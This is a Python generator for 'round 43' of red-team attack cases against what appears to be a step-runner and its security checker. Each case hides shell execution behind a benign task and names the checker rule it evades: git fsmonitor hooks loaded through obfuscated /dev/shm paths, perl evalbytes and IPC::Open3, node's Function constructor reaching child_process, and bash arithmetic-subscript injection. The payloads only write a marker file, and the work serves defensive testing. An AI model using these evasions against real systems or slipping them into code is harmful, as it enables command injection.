# Round forty-three attacks (helpers copied from round 42 lines 1-98) (exec'd by gen_attacks.py; uses A, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r43-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r43-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}


# ================================================================== round 41 attacks
R38L = ("Round 38: a language's program given a run-directory file as an operand reads caller data from it, and is "
        "read for its language's ways to run text (perl: eval, system, backticks, 2-argument open, <>, readline(ARGV); "
        "node: eval, Function, require, child_process, computed global names, process, this, Reflect, module). ")
TXT = {"type": "string", "maxLength": 300}
NOTE = {"type": "string", "maxLength": 300, "description": "one line of text"}
CFG = dict(ATT_TXT, description="the team's git settings file")
# a git config whose fsmonitor hook git status runs (a shell command line); marker to stderr, /tmp and the run dir
HOOKCMD = "echo %s | tee -a /tmp/harbor-r43-pwned $HARBOR_RUN_DIR/pwned >&2; false" % PW
FSMON = '[core]\n\tfsmonitor = "%s"\n' % HOOKCMD
HOOKSH = "#!/bin/sh\n" + SHP + " >&2\nexit 1\n"
R39 = ("Round 39: a path of a place a step may write is caller data, refused where the grammar says code or config "
       "(git -c include.path=, GIT_CONFIG_GLOBAL as a KEY=); the places named are the run directory, temporary "
       "folders, home, /dev/shm, /run/shm, /run/lock, /run/user, /var/lock, /var/run/shm, /proc/*/root, mktemp, "
       "paths with .. after a link. ")
R39X = ("Round 39/40: the exception for a file the same step wrote in full just before at its top level with printf "
        "of the author's text, named by no other command of the script, for a program with a grammar and no program "
        "text; off when the script has set +e or set -C, or mentions noclobber or errexit. ")


# ================================================================== round 43 attacks
R41 = ("Round 41: a path of what a descriptor holds open (/dev/stdin, /dev/fd/3, /proc/self/fd/4, and anything under "
       "them) is a place; so is a path whose start a command prints (date +/dev/shm/x, mktemp). ")
R42 = ("Round 42: /dev/stdout and /dev/stderr with 1<; an absolute path with a glob outside /etc,/usr,/opt,/srv; a path "
       "that starts with an expansion bash rewrites (${d,,}, ${d^^}, ${d/x/y}, ${d@L}, ${!d}) is a place. ")
SHMW = ("mkdir -p /dev/shm/r43-app\n"
        "cp -- \"$ARG_settings\" /dev/shm/r43-app/team.gitconfig\n"
        "echo \"team settings saved\"\n")
SAVE = ("save", SHMW, None)
SAVEW = "Step 'save' is W103 only (an attachment copied to an absolute path outside the working folder, as in round 42). "

# ---------------------------------------------------------------- place-spelled-by-unlisted-expansion
X("at-e-place", "place-spelled-by-unlisted-expansion", "Save the team's git settings, then show the status with them",
  {"settings": CFG},
  [SAVE, ("status", "d='/dev/\\x73hm/r43-app'\nGIT_CONFIG_GLOBAL=\"${d@E}/team.gitconfig\" git status --short\n", None)],
  {"settings": b64(FSMON)},
  R39 + R42 + SAVEW + "${d@E} (backslash escapes expanded) is not in round 42's list of rewriting expansions; d's "
  "literal text '/dev/\\x73hm/…' names no place; bash makes it /dev/shm/r43-app.")

X("case-toggle-place", "place-spelled-by-unlisted-expansion", "Save the team's git settings, then show the status with them",
  {"settings": CFG},
  [SAVE, ("status", "d=/DEV/SHM/R43-APP\nGIT_CONFIG_GLOBAL=\"${d~~}/team.gitconfig\" git status --short\n", None)],
  {"settings": b64(FSMON)},
  R39 + R42 + SAVEW + "${d~~} is bash's undocumented case toggle (not ${d,,}, ${d^^} nor ${d@L}); /DEV/SHM/R43-APP "
  "names no place, its toggle is /dev/shm/r43-app.")

X("brace-array-place", "place-spelled-by-unlisted-expansion", "Save the team's git settings, then show the status with them",
  {"settings": CFG},
  [SAVE, ("status", "roots=(/dev/s{h,}m /var/tmp)\nGIT_CONFIG_GLOBAL=\"${roots[0]}/r43-app/team.gitconfig\" git status --short\n", None)],
  {"settings": b64(FSMON)},
  R39 + R42 + SAVEW + "Brace expansion (not a glob: no *, ? or [) builds /dev/shm as an array word; the note's array rule "
  "speaks of globs, and the literal text /dev/s{h,}m is no place as written.")

X("read-herestring-place", "place-spelled-by-unlisted-expansion", "Save the team's git settings, then show the status with them",
  {"settings": CFG},
  [SAVE, ("status", "IFS=: read -r _ d <<< 'root:/dev/shm/r43-app'\nGIT_CONFIG_GLOBAL=\"$d/team.gitconfig\" git status --short\n", None)],
  {"settings": b64(FSMON)},
  R39 + R41 + R42 + SAVEW + "The place is the author's literal, but it reaches d through read's field splitting of a "
  "here-string, not an assignment, a for list, a command's print or an expansion that rewrites.")

X("pwd-printed-place", "place-spelled-by-unlisted-expansion", "Save the team's git settings, then show the status with them",
  {"settings": CFG},
  [SAVE, ("status", "d=$(cd /dev/shm/r43-app && pwd -P)\nGIT_CONFIG_GLOBAL=\"$d/team.gitconfig\" git status --short\n", None)],
  {"settings": b64(FSMON)},
  R39 + R41 + SAVEW + "pwd prints the folder cd moved to; round 41 names date and mktemp as commands whose print starts "
  "a place; the cd is inside $(…), so it moves nothing after it.")

# ---------------------------------------------------------------- descriptor-path-unlisted
R("proc-pid-fd", "descriptor-path-unlisted", "Repository status with the settings bash holds open",
  {"settings": CFG},
  """
  exec 4< "$ARG_settings"
  echo "settings opened"
  git -c include.path="/proc/$BASHPID/fd/4" status --short
  exec 4<&-
  """,
  {"settings": b64(FSMON)},
  R41 + "/proc/$BASHPID/fd/4: BASHPID is a number bash sets; the path is neither /proc/self/fd nor under it, nor "
  "/proc/*/root; git opens the bash's own descriptor 4, the caller's file.")

# ---------------------------------------------------------------- perl-run-primitive-unlisted
PERLCODE = "system(q{%s})" % SHP
R("perl-evalbytes", "perl-run-primitive-unlisted", "Format the caller's note with perl",
  {"note": NOTE},
  """
  perl -e 'use feature "evalbytes"; my $n = $ARGV[0]; print "note: ", length($n), "\\n"; CORE::evalbytes($n);' -- "$ARG_note"
  """,
  {"note": PERLCODE},
  "security.md 7/8: perl's listed primitives are eval, system, backticks, 2-argument open, <>, readline(ARGV) (+ round "
  "41/42 additions). evalbytes is a distinct keyword; a word match for eval does not see it.")

R("perl-ipc-open3", "perl-run-primitive-unlisted", "Run the caller's note through perl's IPC helper",
  {"note": NOTE},
  """
  perl -MIPC::Open3 -e 'my $pid = open3(my $in, my $out, undef, $ARGV[0]); print while <$out>; waitpid($pid, 0);' -- "$ARG_note"
  """,
  {"note": SHP},
  "IPC::Open3::open3 with one command string runs it through /bin/sh; it is a module function, not one of perl's listed "
  "primitives (system, exec, backticks, readpipe, open). <$out> reads a handle, not ARGV.")

# ---------------------------------------------------------------- js-function-by-constructor
R("node-arrow-constructor", "js-function-by-constructor", "Check the caller's expression with node",
  {"expr": NOTE},
  """
  node -e 'const src = process.argv[1]; const f = (() => 0).constructor(src); console.log("result:", f());' -- "$ARG_expr"
  """,
  {"expr": "return process.getBuiltinModule('child_process').execSync(" + json.dumps(SHP) + ").toString()"},
  "node's listed primitives: eval, Function, require, child_process, computed global names, process, this, Reflect, "
  "module, \\u, import(). (() => 0).constructor is Function reached as a property of an arrow function; the program "
  "names none of the list except process.argv (a data read).", skip=False)

# ---------------------------------------------------------------- bash-test-arith
R("dbl-bracket-eq", "bash-test-arith", "Say whether the caller's page is the first",
  {"page": {"type": "string", "maxLength": 200, "description": "page number"}},
  """
  if [[ "$ARG_page" -eq 1 ]]; then echo "first page"; else echo "later page"; fi
  """,
  {"page": ARITHB},
  "[[ A -eq B ]] evaluates both sides as arithmetic expressions even when quoted; a caller's x[$(cmd)] runs. No $((…)), "
  "let or (( )) appears; the value is only compared.")

R("test-v-subscript", "bash-test-arith", "Say whether the caller's slot is counted",
  {"slot": {"type": "string", "maxLength": 200, "description": "slot number"}},
  """
  counts=(3 5 8)
  if [[ -v "counts[$ARG_slot]" ]]; then echo "slot counted"; else echo "no such slot"; fi
  """,
  {"slot": ARITHB},
  "[[ -v NAME[SUB] ]] evaluates SUB as arithmetic of an indexed array, and bash expands $(...) in it once more; the "
  "caller's text stands only in a quoted string operand of a test, no $((...)), let, (( )) or array index in the text.", skip=True)
